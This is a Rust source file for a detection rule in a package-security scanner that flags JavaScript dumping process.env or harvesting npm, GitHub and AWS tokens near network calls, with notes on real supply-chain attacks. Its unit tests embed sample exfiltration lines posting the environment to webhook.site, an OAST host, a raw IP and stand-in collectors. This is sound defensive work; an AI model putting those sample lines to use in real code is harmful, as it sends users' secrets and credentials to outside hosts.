//! `env-harvest`: the whole environment serialised or sent, or many secret-looking variables read,
//! in a file that talks to the network.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::sinks;
use super::{FileRule, RuleInfo};
use crate::facts::{FileFacts, Value};

pub struct EnvHarvest;

static INFO: RuleInfo = RuleInfo {
    id: "env-harvest",
    severity: Severity::High,
    confidence: Confidence::Medium,
    capabilities: &[Capability::Env, Capability::Credentials],
    summary: "Collects the whole process.env or many token-like variables, especially next to a network call",
    docs: r#"## What it detects

- the whole `process.env` serialised (`JSON.stringify(process.env)`, `Buffer.from(JSON…)`,
  `querystring.stringify(process.env)`, `new URLSearchParams(process.env)`, also wrapped in an
  object with other host facts: `JSON.stringify({ host: os.hostname(), env: process.env })`) or
  passed to a network call;
- reads of several credential-looking variables of at least two services: `NPM_TOKEN`,
  `NODE_AUTH_TOKEN`, `GITHUB_TOKEN`, `GH_TOKEN`, `AWS_ACCESS_KEY_ID`, `AWS_SECRET_ACCESS_KEY`,
  `*_SECRET*`, `*_TOKEN`, `*_KEY`, `*PASSWORD*` (an SDK reads its own service's secrets; a
  harvester collects npm, GitHub and cloud tokens together).

Graded by what else the file does:
- **critical**: the whole environment (serialised, iterated or copied), or three or more secrets of two or more services, in a
  file that sends to a raw IP or an exfiltration service (webhook, request bin, OAST, paste site), or the serialised
  environment handed directly to a network call;
- **high**: the serialised environment, or three or more secrets, in a small hand-written file
  that talks to the network;
- **moderate**: the serialised environment alone (written to a file, logged), or five or more
  secrets read.

## Real attacks

- Shai-Hulud (September and November 2025): dumped `process.env` and the tokens it found
  (`NPM_TOKEN`, `GITHUB_TOKEN`, `AWS_ACCESS_KEY_ID`, …) into a public GitHub repository and a
  webhook.site URL.
- nx s1ngularity (August 2025) and thousands of dependency-confusion probes: `JSON.stringify(
  process.env)` posted to Burp Collaborator/interactsh, Pipedream or a raw IP from a postinstall.
- The 2022 `discord.dll`-style stealers and countless typosquats that post `process.env` to a
  Discord or Telegram webhook.

## Known false positives

Passing `{...process.env}` to a child process, reading `NODE_ENV`/`DEBUG`, and config loaders
that filter `process.env` by prefix are not reported. CI and release tools (semantic-release,
changesets) read `GITHUB_TOKEN`/`NPM_TOKEN` and call their APIs: they reach high only in small
files that both read three or more secrets and talk to the network; read the hosts.
"#,
};

/// Callees that turn an object into a string or bytes (the environment leaving the process).
const SERIALIZERS: &[&str] = &[
    "JSON.stringify",
    "querystring.stringify",
    "qs.stringify",
    "URLSearchParams",
    "util.inspect",
    "Buffer.from",
    "btoa",
    "encodeURIComponent",
    "v8.serialize",
];

const BUNDLE_BYTES: usize = 1_000_000;

/// Whether call `inner` is written inside the arguments of call `outer` (same line, starting
/// after it, its source text part of the outer call's).
fn nested_in(inner: &crate::facts::Call, outer: &crate::facts::Call) -> bool {
    inner.line == outer.line
        && inner.column > outer.column
        && !inner.excerpt.is_empty()
        && outer.excerpt.contains(inner.excerpt.as_str())
}

impl FileRule for EnvHarvest {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
        let serialized = file.calls.iter().find(|c| {
            SERIALIZERS.contains(&sinks::normalize(&c.callee)) && c.args.first().is_some_and(|a| holds_env(a, 3))
        });
        // `https.get(url + qs.stringify(process.env))`: the serialised environment is an
        // argument of the request itself.
        let sent_directly = file.calls.iter().find(|c| {
            sinks::is_network_call(c)
                && (c.args.iter().any(|a| holds_env(a, 1)) || serialized.is_some_and(|s| nested_in(s, c)))
        });

        let mut secrets: Vec<(&str, u32)> = Vec::new();
        for read in &file.member_reads {
            if let Some(name) = read.path.strip_prefix("process.env.") {
                if sinks::is_secret_env_name(name) && !secrets.iter().any(|(n, _)| *n == name) {
                    secrets.push((name, read.line));
                }
            }
        }

        let exfil = exfil_target(file);
        let bytes = file.metrics.bytes.max(file.size as usize);
        let small = bytes < BUNDLE_BYTES && !file.metrics.minified;
        let network = sinks::has_network(file);

        if let Some(call) = sent_directly {
            out.push(sinks::finding(
                &INFO,
                file,
                call.line,
                Severity::Critical,
                Confidence::High,
                "Sends the whole process.env (every secret of the environment) over the network",
                Some(&sinks::call_evidence(file, call)),
            ));
            return;
        }
        if let Some(call) = serialized {
            let evidence = sinks::call_evidence(file, call);
            let (severity, confidence, message) = if let Some(target) = exfil.as_deref() {
                (
                    Severity::Critical,
                    Confidence::High,
                    format!("Serialises the whole process.env in a file that sends to {target}"),
                )
            } else if network && small {
                (
                    Severity::High,
                    Confidence::Medium,
                    "Serialises the whole process.env in a file that talks to the network".to_string(),
                )
            } else {
                (
                    Severity::Moderate,
                    Confidence::Low,
                    "Serialises the whole process.env".to_string(),
                )
            };
            out.push(sinks::finding(
                &INFO,
                file,
                call.line,
                severity,
                confidence,
                message,
                Some(&evidence),
            ));
            return;
        }
        // The whole environment iterated or copied (`Object.entries(process.env)`, spread) in a
        // file that sends to a hostile target: how Shai-Hulud filtered it for tokens.
        if let (Some(target), Some(read)) = (
            exfil.as_deref(),
            file.member_reads.iter().find(|r| r.path == "process.env" && r.whole),
        ) {
            out.push(sinks::finding(
                &INFO,
                file,
                read.line,
                Severity::Critical,
                Confidence::Medium,
                format!("Collects the whole process.env in a file that sends to {target}"),
                None,
            ));
            return;
        }
        let mut services: Vec<String> = secrets.iter().map(|(name, _)| sinks::secret_service(name)).collect();
        services.sort();
        services.dedup();
        if secrets.len() >= 3 && services.len() >= 2 {
            let names = secrets.iter().take(6).map(|(n, _)| *n).collect::<Vec<_>>().join(", ");
            let line = secrets[0].1;
            let (severity, confidence, message) = if let Some(target) = exfil.as_deref() {
                (
                    Severity::Critical,
                    Confidence::High,
                    format!(
                        "Reads {} secret variables ({names}) in a file that sends to {target}",
                        secrets.len()
                    ),
                )
            } else if network && small {
                (
                    Severity::High,
                    Confidence::Medium,
                    format!(
                        "Reads {} secret variables ({names}) in a file that talks to the network",
                        secrets.len()
                    ),
                )
            } else if secrets.len() >= 5 && services.len() >= 3 {
                (
                    Severity::Moderate,
                    Confidence::Low,
                    format!("Reads {} secret variables ({names})", secrets.len()),
                )
            } else {
                return;
            };
            out.push(sinks::finding(&INFO, file, line, severity, confidence, message, None));
        }
    }
}

/// Whether `value` is the whole `process.env`, or holds it in an object or array at most
/// `depth` levels down (`{ host: os.hostname(), env: process.env }`).
fn holds_env(value: &Value, depth: u32) -> bool {
    match value {
        Value::Member { path } => path == "process.env",
        Value::Object { entries } if depth > 0 => entries.iter().any(|(_, v)| holds_env(v, depth - 1)),
        Value::Array { items } if depth > 0 => items.iter().any(|v| holds_env(v, depth - 1)),
        _ => false,
    }
}

/// A raw public IP or an exfiltration service named anywhere in a file that has a network call
/// (or runs curl/wget). Shared with `exfil-sink` so both agree on what a hostile target is.
pub fn exfil_target(file: &FileFacts) -> Option<String> {
    if !sinks::has_network(file) {
        return None;
    }
    for call in file
        .calls
        .iter()
        .filter(|c| sinks::is_network_call(c) || sinks::is_exec_call(c))
    {
        let text = call
            .args
            .iter()
            .filter_map(sinks::value_text)
            .collect::<Vec<_>>()
            .join(" ");
        for host in sinks::call_hosts(call) {
            if let Some(label) = sinks::exfil_service(&host, &text) {
                return Some(format!("{label} ({host})"));
            }
            if sinks::is_public_ipv4(&host) {
                return Some(format!("a raw IP address ({host})"));
            }
        }
    }
    for (text, _, _) in sinks::file_strings(file) {
        if text.len() > 4096 {
            continue;
        }
        for host in sinks::url_hosts(text) {
            if let Some(label) = sinks::exfil_service(&host, text) {
                return Some(format!("{label} ({host})"));
            }
            if sinks::is_public_ipv4(&host) {
                return Some(format!("a raw IP address ({host})"));
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts;

    fn run(source: &str) -> Vec<Finding> {
        let file = facts::extract("index.js", source.as_bytes(), 0o644);
        let mut out = Vec::new();
        EnvHarvest.check(&file, &mut out);
        out
    }

    fn worst(source: &str) -> Severity {
        run(source)
            .iter()
            .map(|f| f.severity)
            .max()
            .unwrap_or(Severity::Unknown)
    }

    #[test]
    fn config_loader_reading_node_env_is_quiet() {
        let source = "const mode = process.env.NODE_ENV || 'development';\nconst debug = process.env.DEBUG;\nmodule.exports = { mode, debug };";
        assert!(run(source).is_empty());
    }

    #[test]
    fn child_env_spread_is_quiet() {
        let source = "const { spawn } = require('child_process');\nspawn('node', ['x.js'], { env: { ...process.env, FORCE_COLOR: '1' } });";
        assert!(run(source).is_empty());
    }

    #[test]
    fn env_serialised_into_the_request_url_is_critical() {
        // The serialised environment is part of the request's own argument: sent, not just
        // serialised somewhere near a network call.
        let source = "const https = require('https'), qs = require('querystring');\nhttps.get('https://collect.example-svc.net/r?' + qs.stringify(process.env));";
        let findings = run(source);
        assert_eq!(findings.len(), 1, "{findings:?}");
        assert_eq!(findings[0].severity, Severity::Critical);
        assert_eq!(findings[0].confidence, Confidence::High);
        // Serialised for a log line while the file also fetches something else: not sent.
        let logged = "const https = require('https');\nconsole.log(JSON.stringify(process.env));\nhttps.get('https://example.com/version.json');";
        assert!(worst(logged) < Severity::Critical, "{:?}", run(logged));
    }

    #[test]
    fn env_posted_to_webhook_is_critical() {
        let source = "const https = require('https');\nconst data = JSON.stringify(process.env);\nconst req = https.request('https://webhook.site/0c3f9d2e-1111-4c1a-9e0e-5b3b2b6f0a11', { method: 'POST' });\nreq.write(data);\nreq.end();";
        let findings = run(source);
        assert_eq!(findings.len(), 1, "{findings:?}");
        assert_eq!(findings[0].severity, Severity::Critical);
        assert_eq!(findings[0].line, Some(2));
        assert!(findings[0].message.contains("webhook.site"));
    }

    #[test]
    fn env_wrapped_in_a_report_object_counts() {
        let source = "const os = require('os');\nconst report = { h: os.hostname(), u: os.userInfo().username, env: process.env };\nfetch('https://stats.example.invalid/c', { method: 'POST', body: JSON.stringify(report) });";
        assert!(worst(source) >= Severity::High, "{:?}", run(source));
        // A child's environment built from process.env is not serialised.
        let child = "const cp = require('child_process');\ncp.spawn('node', ['x.js'], { env: { ...process.env, FORCE_COLOR: '1' } });";
        assert!(run(child).is_empty(), "{:?}", run(child));
    }

    #[test]
    fn env_sent_to_unknown_host_is_high() {
        let source = "const axios = require('axios');\naxios.post('https://stats.example.invalid/c', { e: Buffer.from(JSON.stringify(process.env)).toString('base64') });\nJSON.stringify(process.env);";
        assert!(worst(source) >= Severity::High);
    }

    #[test]
    fn env_iterated_next_to_an_oast_host_is_critical() {
        let source = "const found = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY/.test(k));\nfetch('https://abc123.oast.pro/x', { method: 'POST', body: JSON.stringify(found) });";
        assert_eq!(worst(source), Severity::Critical);
        let benign = "const found = Object.entries(process.env).filter(([k]) => k.startsWith('APP_'));\nfetch('https://api.example.com/config');";
        assert!(run(benign).is_empty());
    }

    #[test]
    fn env_written_to_a_file_is_moderate() {
        assert_eq!(
            worst("require('fs').writeFileSync('env.json', JSON.stringify(process.env));"),
            Severity::Moderate
        );
    }

    #[test]
    fn token_reads_next_to_fetch_are_high_and_alone_quiet() {
        let sdk = "const c = [process.env.AWS_ACCESS_KEY_ID, process.env.AWS_SECRET_ACCESS_KEY, process.env.AWS_SESSION_TOKEN];\nfetch('https://sts.amazonaws.com/', { method: 'POST', body: c.join() });";
        assert!(run(sdk).is_empty(), "one service's own secrets");
        let reads = "const t = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, process.env.AWS_SECRET_ACCESS_KEY];";
        assert!(run(reads).is_empty());
        let source =
            format!("{reads}\nfetch('https://collector.example.invalid/t', {{ method: 'POST', body: t.join(',') }});");
        assert_eq!(worst(&source), Severity::High);
        let source = format!("{reads}\nfetch('http://45.9.20.1/t', {{ method: 'POST', body: t.join() }});");
        assert_eq!(worst(&source), Severity::Critical);
    }
}
